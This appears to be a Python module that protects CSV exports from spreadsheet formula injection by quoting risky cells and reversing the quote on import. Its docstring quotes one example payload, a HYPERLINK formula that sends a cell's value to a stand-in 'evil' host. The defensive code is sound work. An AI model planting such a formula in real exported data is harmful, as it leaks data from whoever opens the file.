"""CSV cells that a spreadsheet opens as data, never as a formula (CSV / formula injection).

Excel, LibreOffice and WPS run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, after
trimming, a tab or carriage return) as a formula: a worker name or an order note typed as
``=HYPERLINK("http://evil/?"&A1,"click")`` would run on the auditor's machine when the exported
file is opened. OWASP's advice, followed here: prefix such a cell with a single quote, which the
spreadsheet shows as text. Every CSV writer in seamline goes through :func:`writer`.

Two refinements keep the files useful:

- a cell that is a plain number (``-3``, ``+1.5``, ``-2e3``) or a lone ``-`` is left alone: neither
  is a formula, and a negative quantity must stay a number in the sheet;
- the prefix is reversible: :func:`restore` (used by the master-data CSV reader) strips it again,
  so ``seamline export`` then ``seamline import`` gives back the same text. A cell that itself
  starts with quotes before a trigger gets one more quote, so nothing is ambiguous.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def _risky(text: str) -> bool:
    if text in ("-", "+"):  # a lone dash is the reports' "nothing here", not a formula
        return False
    bare = text.lstrip("'")
    return bare.startswith(TRIGGERS) and not _NUMBER.fullmatch(text)


def neutralise(value: Any) -> Any:
    """The cell as it is safe to write: strings that a spreadsheet would run get a leading ``'``;
    numbers, dates and plain numeric strings are returned unchanged."""
    if isinstance(value, str) and _risky(value):
        return "'" + value
    return value


def restore(text: str) -> str:
    """Undo :func:`neutralise` on a cell read back from a CSV this module wrote."""
    if text.startswith("'") and _risky(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """``csv.writer`` with every cell passed through :func:`neutralise`."""

    def __init__(self, f: _Writable, **kwargs: Any) -> None:
        self._w = csv.writer(f, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for r in rows:
            self.writerow(r)


def writer(f: _Writable, **kwargs: Any) -> SafeWriter:
    return SafeWriter(f, **kwargs)
